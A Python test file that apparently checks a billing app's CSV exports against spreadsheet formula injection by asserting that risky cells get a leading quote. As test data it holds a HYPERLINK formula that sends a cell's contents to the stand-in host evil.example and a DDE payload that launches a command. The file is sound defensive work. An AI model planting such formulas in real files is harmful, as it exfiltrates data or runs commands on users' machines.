"""Every CSV export is spreadsheet-safe: a free-text cell that starts with =, +, -, @, a tab or a CR gets
a quote in front (OWASP), so `=HYPERLINK(...)` in an adjustment's reason stays text; numbers, negative
amounts included, stay numbers."""

import csv
import io

from django.test import Client
from tests_reports_helpers import DAY, at, csv_body

from billing.ledger.services import add_adjustment
from billing.models import ChargeLine
from billing.reports import exports

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def report_csv(user, **params) -> list[dict]:
    return list(csv.DictReader(io.StringIO(csv_body(user, **params))))


def credit(usage, reason):
    add_adjustment(user=usage.tenants.finance, workspace=usage.tenants.vision, amount="-2.50", reason=reason,
                   now=at(DAY, 20, 15))


def test_the_helper_neutralises_each_formula_start_and_nothing_else():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
    assert [exports.spreadsheet_safe(v) for v in ("a=b", "", "3", None, 4)] == ["a=b", "", "3", None, 4]
    buffer = io.StringIO()
    writer = exports.SafeCsvWriter(buffer, ["cost", "reason"], numbers={"cost"})
    writer.writerows([["-2.50", "-2.50"], ["=1+1", "@x"], ["-12", "+5"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["-2.50", "'-2.50"], ["'=1+1", "'@x"], ["-12", "'+5"]]  # a number column's formula is neutralised too


def test_the_statement_csv_neutralises_the_reason_and_keeps_the_credit_a_number(usage):
    credit(usage, EVIL)
    client = Client()
    client.force_login(usage.tenants.finance)
    body = client.get("/reports/statements/vision-lab/2026-03/statement.csv").content.decode()
    (row,) = [r for r in csv.DictReader(io.StringIO(body)) if r["ChargeCategory"] == "Credit"]
    assert row["x_Reason"] == "'" + EVIL and row["ChargeDescription"] == "'" + EVIL
    assert row["BilledCost"] == "-2.50" and row["x_DiscountAmount"] == "0.00"


def test_the_report_csv_neutralises_the_reason_and_keeps_the_credit_a_number(usage):
    credit(usage, "@SUM(1+1)*cmd|' /C calc'!A0")
    (row,) = [r for r in report_csv(usage.tenants.finance) if r["ChargeCategory"] == "Credit"]
    assert row["x_Reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["BilledCost"] == "-2.50"
    assert row["EffectiveCost"] == "-2.50" and row["ListCost"] == "-2.50"


def test_the_grouped_report_csv_neutralises_a_group_and_keeps_its_sums(usage):
    credit(usage, "for the group")
    ChargeLine.objects.filter(job=usage.vision_job).update(job_name="-2+3")  # a name from before names were checked
    rows = report_csv(usage.tenants.finance, group_by="job")
    assert "'-2+3" in [r["job_name"] for r in rows] and "-2+3" not in [r["job_name"] for r in rows]
    assert any(r["cost"] == "-2.50" for r in rows)  # the credit's own group: a negative number, as it is
